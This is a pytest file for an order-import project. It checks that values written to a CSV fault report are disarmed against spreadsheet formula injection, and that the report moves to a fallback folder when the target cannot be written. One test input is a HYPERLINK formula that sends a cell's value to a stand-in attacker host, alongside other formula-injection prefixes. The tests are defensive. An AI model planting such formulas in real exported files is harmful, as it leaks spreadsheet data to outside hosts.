"""The report of an import can be opened in a spreadsheet, and has a place before anything is placed."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from order_project.importing.invoices import Fault
from order_project.importing.report import disarm, open_default_report, write_faults, write_header

FORMULA = '=HYPERLINK("http://evil.example/?"&B2,"open")'


@pytest.mark.parametrize(
    "text", [FORMULA, "@SUM(1+1)", "+44", "-3", "\t=1", " =1", "'=1", "x;=1+1", 'x,"=1"', "a\n=1", "＝1"]
)
def test_what_a_spreadsheet_would_run_is_text(text: str) -> None:
    assert disarm(text).count("'") == text.count("'") + 1


@pytest.mark.parametrize(
    "text", ["536365", "CA-2016-000001", "'x' is no price", "the quantity is -3", "a = b"]
)
def test_all_else_stays(text: str) -> None:
    assert disarm(text) == text


def test_the_file_has_no_cell_that_runs(tmp_path: Path) -> None:
    out, reason = open_default_report(tmp_path / "var", tmp_path / "invoices.csv")
    with out:
        write_header(out)
        write_faults(
            out, [Fault(2, FORMULA, "bad_row", FORMULA), Fault(0, "1", "unknown_sku", "no such product")]
        )
    with Path(out.name).open(encoding="utf-8", newline="") as report:
        rows = list(csv.DictReader(report))
    assert [(row["line"], row["invoice"]) for row in rows] == [("2", "'" + FORMULA), ("", "1")]
    assert not [cell for row in rows for cell in row.values() if cell[:1] in "=+-@" and cell]
    assert reason == ""


def test_a_folder_that_cannot_be_written_has_another_in_its_place(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "file").touch()
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    out, reason = open_default_report(tmp_path / "file" / "var", tmp_path / "invoices.csv")
    out.close()
    assert Path(out.name) == tmp_path / "import_orders-report.csv"
    assert "cannot be written" in reason
    assert out.name in reason
